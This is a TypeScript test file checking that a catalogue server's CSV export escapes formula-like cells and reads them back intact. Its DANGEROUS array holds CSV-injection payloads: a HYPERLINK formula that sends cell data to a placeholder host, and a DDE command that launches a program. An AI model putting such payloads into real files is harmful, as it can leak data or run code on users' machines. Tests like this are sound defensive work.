import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { readCsv } from '../../../server/src/core/adela/csvReader';
import { writeCsv } from '../../../server/src/core/adela/csvWriter';
import { exportWorkspace } from '../../../server/src/core/exchange/exportWorkspace';
import { importFiles } from '../../../server/src/core/exchange/importFiles';
import { analyzeFile } from '../../../server/src/core/check/analyzeFile';

const DANGEROUS = ['=HYPERLINK("http://ejemplo.invalid/?"&A1,"clic")', "+1+cmd|' /C calc'!A0", '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1', "'=ya con apóstrofo", "''@dos"];

describe('CSV exports never hand a spreadsheet a formula', () => {
  it('writes every cell starting with = + - @ tab or CR behind an apostrophe', () => {
    const text = writeCsv([DANGEROUS.map((cell) => cell.replace(/,/g, ';')), ['texto', '3', 'a=b', "l'agua"]]);
    const [dangerous, plain] = readRaw(text);
    for (const cell of dangerous!) assert.match(cell, /^'/, JSON.stringify(cell));
    assert.deepEqual(plain, ['texto', '3', 'a=b', "l'agua"]);
  });

  it('reads them back as they were written', () => {
    // The import decodes the bytes (byte-order mark included) before reading the table.
    assert.deepEqual(readCsv(writeCsv([DANGEROUS]).replace(/^\uFEFF/, '')).rows[0]!.cells, DANGEROUS);
  });

  it('keeps a dataset title that looks like a formula through export csv and import', () => {
    const yaml = `identifier: formula\ntitle: "=HYPERLINK(\\"http://ejemplo.invalid\\")"\ndescription: "-menos de lo esperado"\nkeyword: ["@etiqueta"]\nmodified: 2026-11-01\n`;
    const exported = exportWorkspace([analyzeFile('formula.dcat.yaml', 'metadata', yaml)], 'csv', 0);
    assert.ok(!('error' in exported));
    assert.ok(!/(^|,)[=+\-@]/m.test(exported.text.replace(/^\uFEFF/, '')), exported.text);
    const imported = importFiles([{ name: 'catalogo.csv', bytes: Buffer.from(exported.text) }]);
    const back = analyzeFile(imported.files[0]!.name, 'metadata', imported.files[0]!.text).datasets[0]!;
    assert.equal(back.title, '=HYPERLINK("http://ejemplo.invalid")');
    assert.match(imported.files[0]!.text, /-menos de lo esperado/);
    assert.match(imported.files[0]!.text, /@etiqueta/);
    assert.doesNotMatch(imported.files[0]!.text, /'=|'-|'@/);
  });
});

/** The cells exactly as a spreadsheet sees them, quotes removed but apostrophes kept. */
function readRaw(text: string): string[][] {
  return text
    .replace(/^\uFEFF/, '')
    .split('\r\n')
    .filter(Boolean)
    .map((line) => line.split(',').map((cell) => (cell.startsWith('"') ? cell.slice(1, -1).replace(/""/g, '"') : cell)));
}
